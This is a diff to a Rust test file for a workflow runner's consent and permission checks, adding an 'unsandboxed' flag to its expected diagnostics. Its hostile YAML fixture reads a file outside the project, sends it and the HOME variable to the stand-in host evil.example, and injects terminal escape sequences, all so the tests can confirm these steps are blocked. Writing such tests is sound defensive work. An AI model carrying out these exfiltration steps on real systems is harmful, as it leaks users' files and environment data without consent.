@@ -17,7 +17,7 @@ use crate::repository::{Repository, at, day};
 const HOSTILE: &str = "galeras: 1
 name: \"kind\\e[2J\"
 steps:
-  hit: { op: exec, with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } } }
+  hit: { op: exec, with: { command: \"touch hit #\\e[31m\", output: { id: utf8! }, sandbox: none } }
   stolen: { op: read, with: { path: ../outside.csv } }
   prompts: { op: prompt, from: stolen, with: { treatments: { all: '{{ id }}' } } }
   sent:
@@ -172,16 +172,18 @@ fn a_run_stops_before_anything_and_names_all_of_it() {
     let (outside, elsewhere) = (above.join("outside.csv"), above.join("elsewhere/left.csv"));
     let wanted = [
         "exec".to_string(),
+        "unsandboxed".to_string(),
         format!("read:{}", outside.display()),
         "env:HOME=http://evil.example".to_string(),
         format!("send:{}=http://evil.example", outside.display()),
         format!("write:{}", elsewhere.display()),
     ];
     assert_eq!(flags(&json), wanted);
-    let places = ["4:37", "5:37", "10:72", "10:72", "12:31"];
+    let places = ["4:37", "4:90", "5:37", "10:72", "10:72", "12:31"];
     assert_eq!(json.diagnostics(), places.map(|place| format!("not-allowed w.yaml:{place}")));
     for (diagnostic, words) in json.events("diagnostic").iter().zip([
         &["step `hit` runs a program", "touch hit #", "u{1b}[31m"][..],
+        &["step `hit` runs a program without a sandbox", "touch hit #", "u{1b}[31m"],
         &["step `stolen` reads", "outside.csv"],
         &["step `sent` sends", "HOME", "http://evil.example", "unencrypted"],
         &["step `sent` sends data from", "outside.csv", "to http://evil.example"],
@@ -220,7 +222,8 @@ fn what_is_allowed_is_done_and_no_more() {
         run(&project, &listener, &[&["run", "w.yaml", "--format", "json"], more].concat())
     };
     // Relative paths are those of the current folder.
-    let some = run(&["--allow", "exec,read:../outside.csv", "--allow", &write]).exits(2);
+    let some =
+        run(&["--allow", "exec,unsandboxed,read:../outside.csv", "--allow", &write]).exits(2);
     let send = format!("send:{}=http://evil.example", above.join("outside.csv").display());
     assert_eq!(flags(&some), ["env:HOME=http://evil.example", &send]);
     for wrong in [
@@ -230,12 +233,13 @@ fn what_is_allowed_is_done_and_no_more() {
         "env:PATH=http://evil.example",
         "host:http://evil.example",
     ] {
-        let outcome = run(&["--allow", &format!("exec,{read},{write},{send},{wrong}")]).exits(2);
+        let outcome =
+            run(&["--allow", &format!("exec,unsandboxed,{read},{write},{send},{wrong}")]).exits(2);
         assert_eq!(flags(&outcome), ["env:HOME=http://evil.example"], "{wrong}");
     }
     // Consent to read the file and to send something else to that server is not consent to both.
     for wrong in ["*=evil.example", "../outside.csv=evil.example", "w.yaml=http://evil.example"] {
-        let others = "exec,env:HOME=http://evil.example,host:http://evil.example";
+        let others = "exec,unsandboxed,env:HOME=http://evil.example,host:http://evil.example";
         let allowed = format!("{others},{read},{write},send:{wrong}");
         let outcome = run(&["--allow", &allowed]).exits(2);
         assert_eq!(flags(&outcome), [send.as_str()], "{wrong}");
@@ -246,7 +250,7 @@ fn what_is_allowed_is_done_and_no_more() {
     assert_eq!(stolen.statuses(), "stolen=ran");
     assert!(!project.path("hit").exists());
     // All of it: the program runs (and prints no row), the variable is sent.
-    let all = format!("exec,{write},{send},env:HOME=http://evil.example");
+    let all = format!("exec,unsandboxed,{write},{send},env:HOME=http://evil.example");
     let all = run(&["--keep-going", "--allow", &all]);
     assert!(project.path("hit").exists() && listener.asked() > 0, "{all}");
     assert_eq!(all.status("stolen"), "hit", "a stored result is not read again: {all}");
@@ -255,7 +259,7 @@ fn what_is_allowed_is_done_and_no_more() {
     let all = run(&["--keep-going", "--allow-all", "--overwrite"]);
     assert!(project.path("hit").exists(), "{all}");
     assert!(project.path("../elsewhere/left.csv").exists(), "{all}");
-    for wrong in ["execute", "env:HOME", "read:", "network", "exec,,", "host:", "send:x"] {
+    for wrong in ["execute", "env:HOME", "read:", "net", "exec,,", "host:", "send:x"] {
         run(&["--allow", wrong]).exits(2).reports(&["--allow"]);
     }
 }
@@ -272,6 +276,7 @@ steps:
         {command}
       files: [data]
       output: {{ id: utf8! }}
+      sandbox: none
 "
     )
 }
@@ -312,13 +317,20 @@ fn consent_is_asked_once_in_full_and_remembered() {
     let shown = &agreed.stdout;
     says(
         shown,
-        &["w.yaml", "runs a program", &ROW[..10], "(step `rows`, w.yaml:7:9)", "file data"],
+        &[
+            "w.yaml",
+            "runs a program in",
+            "runs a program without a sandbox",
+            &ROW[..10],
+            "(step `rows`, w.yaml:7:9)",
+            "file data",
+        ],
     );
-    assert_eq!(shown.matches("long").count(), 200, "all of it is shown");
+    assert_eq!(shown.matches("long").count(), 400, "all of it is shown");
     assert_eq!(project.read("seen"), "1");
     // It is remembered where only the user may write, and not in the store.
     let memory = project.path("../home/.local/share/galeras/trust");
-    assert_eq!(files_below(&memory).len(), 1);
+    assert_eq!(files_below(&memory).len(), 2);
     let mode = std::os::unix::fs::PermissionsExt::mode(&memory.metadata().unwrap().permissions());
     assert_eq!(mode & 0o777, 0o700);
     // A run of hits asks for nothing anyway, so it has to compute.
@@ -334,15 +346,16 @@ fn what_has_changed_is_asked_again() {
     let project = Project::new(&program(ROW)).with("data", "1");
     unattended(&project).exits(2);
     on_a_terminal(&project, "yes\n").exits(0);
-    let asks = |text: &str| {
-        assert_eq!(flags(&unattended(&project).exits(2)), ["exec"], "{text}");
+    let both = ["exec", "unsandboxed"];
+    let asks = |wanted: &[&str], text: &str| {
+        assert_eq!(flags(&unattended(&project).exits(2)), wanted, "{text}");
     };
     project.write("data", "2");
-    asks("a file of the program has changed");
+    asks(&["exec"], "a file of the program has changed");
     project.write("data", "1");
     unattended(&project).exits(0).all_hit();
     project.change("printf", "echo; printf");
-    asks("the command has changed");
+    asks(&both, "the command has changed");
     project.write("w.yaml", program(ROW));
     unattended(&project).exits(0).all_hit();
     std::fs::remove_dir_all(project.path("cache")).unwrap();
@@ -350,17 +363,17 @@ fn what_has_changed_is_asked_again() {
     project.write("copy/w.yaml", program(ROW));
     project.write("copy/data", "1");
     let args = ["run", "copy/w.yaml", "--format", "json"];
-    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), ["exec"]);
+    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), both);
     // Consent can be taken back.
     unattended(&project).exits(0);
     std::fs::remove_dir_all(project.path("cache")).unwrap();
     std::fs::remove_dir_all(project.path("../home/.local/share/galeras/trust")).unwrap();
-    asks("it was taken back");
+    asks(&both, "it was taken back");
     // A stored result needs no consent.
     let project = Project::new(&program(ROW)).with("data", "1").ran();
     unattended(&project).exits(0).all_hit();
     let args = ["run", "w.yaml", "--format", "json", "--force", "rows"];
-    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), ["exec"]);
+    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), both);
 }
 
 #[test]
